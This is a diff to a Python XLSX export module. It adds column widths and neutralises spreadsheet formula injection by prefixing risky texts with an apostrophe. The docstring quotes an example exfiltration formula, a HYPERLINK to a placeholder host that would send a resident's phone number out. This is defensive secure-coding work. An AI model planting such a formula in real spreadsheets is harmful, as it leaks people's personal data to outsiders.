@@ -6,8 +6,11 @@ mode 19 s (its per-cell bookkeeping), which left no room for the database; this 
 four kinds of value — text, number, date-time and empty — and one style for the header and one for times, which
 is all an export needs; templates and reports with layout keep using openpyxl.
 
-Texts are written as inline strings: never a formula (a resident's "=HYPERLINK(…)" stays text), never a link.
-Characters XML 1.0 cannot carry are dropped.
+Texts are written as inline strings: never a formula, never a link. A text a spreadsheet would take for a formula
+when it is typed, pasted or saved as CSV — starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return — is
+written with a leading apostrophe, as a spreadsheet writes typed text (a resident's note ``=HYPERLINK("http://x/?"&L2)``
+would otherwise send the phone in column L away once someone edits the cell); ``core.tables`` takes the apostrophe
+off when such a file comes back. Characters XML 1.0 cannot carry are dropped.
 """
 from __future__ import annotations
 
@@ -71,7 +74,16 @@ def _column(n: int) -> str:
     return name
 
 
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def neutral(value: str) -> str:
+    """``value`` as text no spreadsheet runs (OWASP's CSV injection rule)."""
+    return "'" + value if value.startswith(FORMULA_START) else value
+
+
 def _text(value: str) -> str:
+    value = neutral(value)
     if not value.isprintable():
         value = _NOT_XML.sub("", value)
     return escape(value)
@@ -100,16 +112,24 @@ def _row(number: int, values: Sequence, columns: list[str], style: int = 0) -> s
     return f'<row r="{number}">{"".join(cells)}</row>'
 
 
-def write_xlsx(out: IO[bytes], sheets: Iterable[tuple[str, Sequence[str], Iterable[Sequence]]]) -> None:
-    """Write sheets — (title, header, rows) — to the binary file ``out``, row by row. The header row is bold and
-    stays in view when scrolling."""
+def _widths(widths: Sequence[float] | None) -> str:
+    if not widths:
+        return ""
+    return "<cols>" + "".join(f'<col min="{i}" max="{i}" width="{w}" customWidth="1"/>'
+                              for i, w in enumerate(widths, start=1)) + "</cols>"
+
+
+def write_xlsx(out: IO[bytes], sheets: Iterable[tuple]) -> None:
+    """Write sheets — (title, header, rows), or (title, header, rows, column widths) — to the binary file ``out``,
+    row by row. The header row is bold and stays in view when scrolling."""
     titles = []
     with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=5) as book:
-        for n, (title, header, rows) in enumerate(sheets, start=1):
+        for n, (title, header, rows, *widths) in enumerate(sheets, start=1):
             titles.append(title)
             columns = [_column(i) for i in range(max(len(header), 1))]
             with book.open(f"xl/worksheets/sheet{n}.xml", "w", force_zip64=True) as sheet:
-                buffer = [_SHEET_HEAD, _row(1, [str(h) for h in header], columns, HEADER_STYLE)]
+                head = _SHEET_HEAD.replace("<sheetData>", _widths(widths[0] if widths else None) + "<sheetData>")
+                buffer = [head, _row(1, [str(h) for h in header], columns, HEADER_STYLE)]
                 for number, row in enumerate(rows, start=2):
                     if len(row) > len(columns):
                         columns += [_column(i) for i in range(len(columns), len(row))]
